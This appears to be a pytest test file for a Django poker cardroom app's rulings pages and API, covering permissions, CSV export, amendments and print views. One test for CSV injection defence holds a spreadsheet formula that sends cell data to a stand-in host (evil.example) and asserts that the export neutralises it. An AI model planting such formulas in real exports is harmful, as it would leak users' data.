"""Rulings pages and API: directors write, everyone with a role reads; no edits ever."""

import csv
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from cardroom.rulings.models import Ruling
from cardroom.rulings.services import log_ruling
from tests.factories import make_table

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def rulebook(db: None) -> None:
    call_command("load_rulebook", verbosity=0)


def logged(
    director: Any, table_number: int = 4, decision: str = "Call.", cite: str = "TDA-45"
) -> Ruling:
    table = make_table(number=table_number)
    return log_ruling(
        table=table, director=director, situation="Chips pushed out", decision=decision,
        citations=[(cite, "")],
    )  # fmt: skip


FORM = {
    "table": 4,
    "situation": "Seat 2 pushed out two chips",
    "decision": "Call",
    "cite": ["TDA-45"],
    "note": ["Example 1"],
}


def test_director_logs_a_ruling_through_the_form(persona_client: Any) -> None:
    make_table(number=4)
    response = persona_client("director").post("/rulings/new/", FORM)
    assert response.status_code == 302
    ruling = Ruling.objects.get()
    assert ruling.citations.get().note == "Example 1"


@pytest.mark.parametrize("persona", ["staff", "no_role_user"])
def test_only_floor_managers_and_directors_log_rulings(persona_client: Any, persona: str) -> None:
    make_table(number=4)
    client = persona_client(persona)
    assert client.post("/rulings/new/", FORM).status_code == 403
    assert client.get("/rulings/cite/?q=chips").status_code == 403
    assert not Ruling.objects.exists()


def test_a_form_without_citation_is_422(persona_client: Any) -> None:
    make_table(number=4)
    response = persona_client("director").post("/rulings/new/", {**FORM, "cite": []})
    assert response.status_code == 422
    assert "Cite at least one rule" in response.content.decode()


def test_citation_autocomplete_finds_rules_by_words_and_id(persona_client: Any) -> None:
    client = persona_client("director")
    assert "TDA-45" in client.get("/rulings/cite/?q=multiple chips").content.decode()
    assert "TDA-45" in client.get("/rulings/cite/?q=TDA 45").content.decode()


def test_adding_a_citation_brings_precedents(persona_client: Any, director: Any) -> None:
    earlier = logged(director, decision="An earlier multiple-chip call.")
    html = persona_client("director").get("/rulings/cite/add/?id=TDA-45").content.decode()
    assert 'name="cite" value="TDA-45"' in html
    assert earlier.decision in html


@pytest.mark.parametrize("persona", ["staff", "floor_manager", "director"])
def test_readers_list_filter_and_open_rulings(
    persona_client: Any, persona: str, director: Any
) -> None:
    first = logged(director, 4, "Multiple chips make a call.")
    logged(director, 5, "Oversized chip is a call.", cite="RRoP-BR.15")
    client = persona_client(persona)
    html = client.get("/rulings/?rule=RRoP-BR.15").content.decode()
    assert "Oversized chip" in html and "Multiple chips make" not in html
    assert client.get(f"/rulings/{first.pk}/").status_code == 200
    assert "data-print" in client.get(f"/rulings/{first.pk}/?print=1").content.decode()


def test_csv_export_of_a_filtered_list(persona_client: Any, director: Any) -> None:
    logged(director, 4, "Multiple chips make a call.")
    logged(director, 5, "Oversized chip is a call.", cite="RRoP-BR.15")
    response = persona_client("staff").get("/rulings/export.csv?table=5")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["table"], r["decision"], r["citations"]) for r in rows] == [
        ("5", "Oversized chip is a call.", "RRoP-BR.15")
    ]


def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet(
    persona_client: Any, director: Any
) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run as a formula opens as text."""
    table = make_table(number=6)
    log_ruling(
        table=table,
        director=director,
        situation='=HYPERLINK("http://evil.example/?"&A1,"click")',
        decision="-2+3 chips returned; @SUM(A1) is not a formula",
        citations=[("TDA-45", "+1")],
    )
    response = persona_client("staff").get("/rulings/export.csv?table=6")
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["situation"] == """'=HYPERLINK("http://evil.example/?"&A1,"click")"""
    assert row["decision"] == "'-2+3 chips returned; @SUM(A1) is not a formula"
    assert row["citations"] == "TDA-45 (+1)"  # starts with a letter: left alone
    assert row["table"] == "6"


def test_api_creates_lists_and_refuses_edits(api_client_for: Any) -> None:
    make_table(number=4)
    client = api_client_for("director")
    body = {
        "table": 4,
        "situation": "s",
        "decision": "d",
        "citations": [{"rule": "TDA-45", "note": "Ex. 1"}],
    }
    created = client.post("/api/v1/rulings/", body, format="json")
    assert created.status_code == 201, created.json()
    data = created.json()
    assert data["citations"][0]["citation_id"] == "TDA-45" and data["citations"][0]["title"]
    assert (
        client.patch(f"/api/v1/rulings/{data['id']}/", {"decision": "x"}, format="json").status_code
        == 405
    )
    assert client.delete(f"/api/v1/rulings/{data['id']}/").status_code == 405
    listed = api_client_for("staff").get("/api/v1/rulings/?rule=TDA-45").json()
    assert listed["results"][0]["id"] == data["id"]
    refused = api_client_for("staff").post("/api/v1/rulings/", body, format="json")
    assert refused.status_code == 403
    unknown = client.post(
        "/api/v1/rulings/", {**body, "citations": [{"rule": "XX-1"}]}, format="json"
    )
    assert unknown.status_code == 400 and "citations" in unknown.json()["error"]["fields"]


def amended(director: Any) -> Ruling:
    table = make_table(number=4)
    return log_ruling(
        table=table, director=director, seats=[3], situation="Seat 3 pushed out two chips.",
        decision="A call.", citations=[("TDA-45", "Example 2"), ("RRoP-BR.15", "")],
    )  # fmt: skip


def test_amending_starts_from_the_original_and_its_citations(
    persona_client: Any, director: Any
) -> None:
    original = amended(director)
    html = persona_client("director").get(f"/rulings/new/?amends={original.pk}").text
    assert html.index('name="cite" value="TDA-45"') < html.index('name="cite" value="RRoP-BR.15"')
    assert 'name="note" value="Example 2"' in html
    assert "Seat 3 pushed out two chips." in html and ">\nA call.</textarea>" in html
    assert 'value="3"' in html  # seats
    assert f'name="amends" value="{original.pk}"' in html
    assert 'aria-label="Remove TDA-45"' in html


def test_the_prefilled_amendment_logs_a_new_linked_ruling(
    persona_client: Any, director: Any
) -> None:
    original = amended(director)
    client = persona_client("director")
    client.get(f"/rulings/new/?amends={original.pk}")
    posted = {
        "amends": original.pk, "kind": "amendment", "table": 4, "seats": "3",
        "situation": original.situation, "decision": "A raise to the minimum.",
        "cite": ["TDA-45", "RRoP-BR.15"], "note": ["Example 2", ""],
    }  # fmt: skip
    assert client.post("/rulings/new/", posted).status_code == 302
    amendment = Ruling.objects.get(number=2)
    assert (amendment.kind, amendment.amends_id, amendment.seats) == ("amendment", original.pk, [3])
    assert [(c.rule_id, c.note) for c in amendment.citations.all()] == [
        ("TDA-45", "Example 2"),
        ("RRoP-BR.15", ""),
    ]
    assert Ruling.objects.get(pk=original.pk).decision == "A call."


def test_a_refused_appeal_keeps_its_kind_and_citations(persona_client: Any, director: Any) -> None:
    original = amended(director)
    posted = {
        "amends": original.pk, "kind": "appeal", "table": 4, "situation": "s", "decision": "",
        "cite": ["TDA-45"], "note": ["Example 2"],
    }  # fmt: skip
    response = persona_client("director").post("/rulings/new/", posted)
    assert response.status_code == 422
    html = response.text
    assert '<option value="appeal" selected>' in html
    assert 'name="cite" value="TDA-45"' in html and 'value="Example 2"' in html


def test_an_amendment_shows_a_withdrawn_citation_to_replace(
    persona_client: Any, director: Any
) -> None:
    from rules.models import Rule

    original = amended(director)
    Rule.objects.filter(citation_id="RRoP-BR.15").update(withdrawn=True)
    html = persona_client("director").get(f"/rulings/new/?amends={original.pk}").text
    assert "Withdrawn: remove or replace it" in html


def test_citing_a_rule_already_cited_adds_nothing(persona_client: Any) -> None:
    client = persona_client("director")
    again = client.get("/rulings/cite/add/?id=TDA-45&cite=TDA-45&cite=RRoP-BR.15")
    assert again.status_code == 204
    added = client.get("/rulings/cite/add/?id=TDA-43&cite=TDA-45&cite=RRoP-BR.15").text
    assert 'name="cite" value="TDA-43"' in added and 'value="RRoP-BR.15"' not in added


def test_the_print_view_has_the_room_header_and_a_signature_line(
    persona_client: Any, director: Any, settings: Any
) -> None:
    from tests.tournaments.factories import make_tournament

    settings.CARDROOM_NAME = "Riverside Card Club"
    tournament = make_tournament(by=director, tables=1, first_table=301)
    ruling = log_ruling(
        table=tournament.tables.get().table, director=director, situation="s", decision="d",
        citations=[("TDA-45", "")],
    )  # fmt: skip
    html = persona_client("staff").get(f"/rulings/{ruling.pk}/?print=1").text
    header = html[html.index('<header class="print-header">') : html.index("</header>")]
    assert "Riverside Card Club" in header
    assert "<h1>Ruling 1 · Table 301</h1>" in header
    assert "Saturday Deepstack" in header and "td" in header
    assert ruling.created_at.strftime("%Y-%m-%d") in header
    assert "Director's signature" in html
    assert "<title>Riverside Card Club · Table 301 ruling 1</title>" in html


def test_the_room_name_comes_from_the_environment() -> None:
    def room_name(value: str) -> subprocess.CompletedProcess[str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
        return subprocess.run(
            [sys.executable, "manage.py", "shell", "--no-imports", "-c",
             "from django.conf import settings; print(settings.CARDROOM_NAME)"],
            cwd=Path(__file__).resolve().parents[2], env={**env, "CARDROOM_NAME": value},
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip

    assert room_name("Riverside Card Club").stdout.splitlines()[-1] == "Riverside Card Club"
    empty = room_name(" ")
    assert empty.returncode != 0 and "CARDROOM_NAME" in empty.stderr
